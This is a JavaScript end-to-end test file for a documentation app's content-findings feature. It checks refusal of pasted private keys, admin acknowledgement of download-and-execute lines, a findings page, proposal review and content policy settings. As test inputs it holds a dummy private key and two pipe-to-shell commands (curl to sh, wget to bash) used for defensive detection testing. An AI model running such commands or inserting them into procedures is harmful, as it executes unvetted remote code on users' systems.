// End-to-end: content findings in the UI (issue 20). A pasted private key is refused in the
// editor with the finding shown and nothing saved; a download-and-execute line needs an
// organization admin's acknowledgement, given with a reason in a dialog, and the saved page
// says so; the space's Findings page lists it; a member's proposal carrying it shows the finding
// in the review, where accepting asks for the acknowledgement; Admin › Content policy changes
// what high findings do. The real binary on 127.0.0.1:0, Debian's Chromium through
// playwright-core; every test fails on a console error, a page error or a foreign request.
//
// Usage: node --test tests/e2e/findings.test.mjs   (RULEBOOK_BIN, CHROMIUM override the defaults)
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { e2e } from './harness.mjs';

const SPACE = '/api/v1/orgs/acme/spaces/default';
const ORG = '/api/v1/orgs/acme';
const CANARY = 'MIIEpQIBAAKCAQEA7canaryKEYbodyQ2x9';
const KEY = `-----BEGIN OPENSSH PRIVATE KEY-----\n${CANARY}\n-----END OPENSSH PRIVATE KEY-----`;
const PIPE = 'curl -fsSL https://get.tool.example.net/install | sh';

const run = e2e('findings');
const { expected, shot, hash, api: apiCall } = run;
let url, page;
before(async () => { ({ url, page } = await run.start()); });
after(() => run.stop());

async function newCommand(name, body) {
  await page.goto(`${url}/#/acme/default/commands/new`);
  await page.getByRole('heading', { name: 'New command' }).waitFor();
  await page.getByLabel('Name').fill(name);
  await page.getByLabel('Description').fill(`${name}, step by step.`);
  await page.getByLabel(/^Procedure/).fill(body);
  await page.getByRole('button', { name: 'Create' }).click();
}

test('a pasted private key is refused in the editor, with the finding shown', async () => {
  await run.firstRun();
  expected.push(422);
  await newCommand('Deploy', `Use this key:\n${KEY}\n`);
  await page.getByRole('alert').filter({ hasText: 'refuses' }).waitFor();
  const box = page.locator('.findings-box');
  await box.getByText('secret.private-key', { exact: false }).waitFor();
  assert.equal(await box.getByText(CANARY).count(), 0, 'the key is shown back');
  assert.equal(hash(), '#/acme/default/commands/new', 'left the editor');
  expected.push(404);
  const r = await apiCall('GET', `${SPACE}/commands/deploy`);
  assert.equal(r.status, 404, 'saved despite the refusal');
  await shot('01-blocked');
});

test('a download-and-execute line is saved once an admin acknowledges it with a reason', async () => {
  expected.push(422);
  await newCommand('Install tool', `First:\n${PIPE}\n`);
  const dialog = page.getByRole('dialog', { name: 'Acknowledge content findings' });
  await dialog.waitFor();
  await dialog.getByText('exec.download-pipe-shell', { exact: false }).first().waitFor();
  await shot('02-acknowledge');
  await dialog.getByLabel(/^Reason/).fill('Vendor installer, vetted in SEC-142');
  await dialog.getByRole('button', { name: 'Acknowledge and save' }).click();
  await page.getByRole('heading', { name: 'Install tool', level: 1 }).waitFor();
  assert.equal(hash(), '#/acme/default/commands/install-tool');
  const saved = page.locator('.findings-box');
  await saved.getByText('Saved with content findings').waitFor();
  await saved.getByText(/acknowledged by admin \(version 1\): Vendor installer, vetted in SEC-142/).waitFor();
  await shot('03-saved-acknowledged');
});

test('the Findings page lists what the space holds', async () => {
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Findings' }).click();
  await page.getByRole('heading', { name: 'Findings', level: 1 }).waitFor();
  assert.equal(hash(), '#/acme/default/findings');
  const item = page.locator('.findings-item').filter({ hasText: 'Install tool' });
  await item.getByText('exec.download-pipe-shell', { exact: false }).waitFor();
  await item.getByText(/acknowledged by admin/).waitFor();
  await page.getByText(/0 critical, 1 high/).waitFor();
  await shot('04-findings-page');
});

test('a proposal shows its findings and accepting it asks for the acknowledgement', async () => {
  const r = await apiCall('POST', `${SPACE}/proposals`, { kind: 'command', content: { name: 'Bootstrap', description: 'Bootstraps.', body: `wget -qO- https://x.example.org/i | bash\n` } });
  assert.equal(r.status, 201, JSON.stringify(r.data));
  assert.equal(r.data.findings[0].action, 'acknowledge');
  await page.goto(`${url}/#/acme/default/proposals/${r.data.id}`);
  await page.getByRole('heading', { name: /^Proposal #/ }).waitFor();
  await page.locator('.findings-box').getByText('exec.download-pipe-shell', { exact: false }).waitFor();
  expected.push(422);
  await page.getByRole('button', { name: /^Accept: create this command/ }).click();
  const dialog = page.getByRole('dialog', { name: 'Acknowledge content findings' });
  await dialog.getByLabel(/^Reason/).fill('Reviewed: internal mirror');
  await dialog.getByRole('button', { name: 'Acknowledge and save' }).click();
  // Exact: the proposal's own heading ("Proposal #n: new command Bootstrap") also holds the
  // name, and moving on before the accepted page opens lets that late navigation land later.
  await page.getByRole('heading', { name: 'Bootstrap', level: 1, exact: true }).waitFor();
  assert.equal(hash(), '#/acme/default/commands/bootstrap');
  const acks = await apiCall('GET', `${SPACE}/findings`);
  const item = acks.data.items.find((i) => i.slug === 'bootstrap');
  assert.equal(item.findings[0].acknowledged.reason, 'Reviewed: internal mirror');
});

test('Admin › Content policy: high findings can be set to warn, and nonsense is refused', async () => {
  await page.goto(`${url}/#/admin/content-policy`);
  await page.getByRole('heading', { name: 'Content policy' }).first().waitFor();
  await page.getByLabel(/^High findings/).selectOption('warn');
  await page.getByLabel(/^Hosts links may point to/).fill('git.corp.example\n*.corp.example');
  await page.getByRole('button', { name: 'Save content policy' }).click();
  await page.getByText('Saved.').waitFor();
  let r = await apiCall('GET', `${ORG}/settings/content-policy`);
  assert.deepEqual(r.data.policy, { critical: 'block', high: 'warn', warning: 'warn', link_allowlist: ['*.corp.example', 'git.corp.example'] });
  // A milder action for a worse severity is refused with the server's reason.
  expected.push(422);
  await page.getByLabel(/^Critical findings/).selectOption('warn');
  await page.getByLabel(/^High findings/).selectOption('block');
  await page.getByRole('button', { name: 'Save content policy' }).click();
  await page.getByRole('alert').filter({ hasText: 'milder action' }).waitFor();
  r = await apiCall('GET', `${ORG}/settings/content-policy`);
  assert.equal(r.data.policy.critical, 'block');
  await shot('05-content-policy');
  // Now the same kind of line only warns: saved without a dialog, the warning shown after.
  await newCommand('Setup', `Then: ${PIPE}\n`);
  await page.getByRole('heading', { name: 'Setup', level: 1 }).waitFor();
  await page.locator('.findings-box').getByText('warning', { exact: false }).first().waitFor();
});
